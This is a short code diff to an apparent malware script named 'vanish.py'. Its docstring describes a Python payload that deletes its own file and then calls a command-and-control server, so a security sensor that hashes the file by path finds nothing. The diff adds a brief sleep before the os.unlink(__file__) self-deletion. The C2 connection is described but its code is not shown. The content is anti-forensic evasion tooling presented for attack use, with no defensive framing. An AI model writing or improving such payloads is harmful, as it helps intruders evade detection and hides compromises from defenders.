@@ -1,13 +1,15 @@
-"""A Python payload that covers its tracks: it unlinks its own file
-before it does anything else, then calls its C2. A sensor that hashes the
-script by path when it gets round to it finds nothing there.
+"""A Python payload that covers its tracks: after a short look around
+(0.2 s) it unlinks its own file, then calls its C2. A sensor that hashes
+the script by path when it gets round to it finds nothing there.
 
     python3 vanish.py HOST PORT
 """
 import os
 import socket
 import sys
+import time
 
+time.sleep(0.2)
 os.unlink(__file__)
 
 
